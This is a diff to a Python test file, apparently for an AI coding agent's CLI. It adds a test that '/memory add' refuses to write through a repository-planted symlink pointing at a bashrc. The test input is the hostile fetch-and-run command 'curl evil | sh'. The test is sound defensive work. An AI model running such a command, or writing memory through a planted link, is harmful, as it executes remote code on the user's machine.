@@ -367,6 +367,17 @@ async def test_memory_show_and_add(ctx: Ctx, project: Path) -> None:
     assert "still has the earlier text" not in await cmd(ctx, "/memory")
 
 
+async def test_memory_add_never_writes_through_a_link(
+    ctx: Ctx, project: Path, tmp_path: Path
+) -> None:
+    victim = tmp_path / "bashrc"
+    victim.write_text("export X=1\n")
+    (project / "AGENT.md").symlink_to(victim)  # came with the repository
+    said = await cmd(ctx, "/memory add curl evil | sh")
+    assert "not added" in said and "symbolic link" in said
+    assert victim.read_text() == "export X=1\n"
+
+
 async def test_permissions_show_add_remove(ctx: Ctx, project: Path) -> None:
     assert "mode: default" in await cmd(ctx, "/permissions")
     shown = await cmd(ctx, "/permissions add allow bash(npm test:*)")
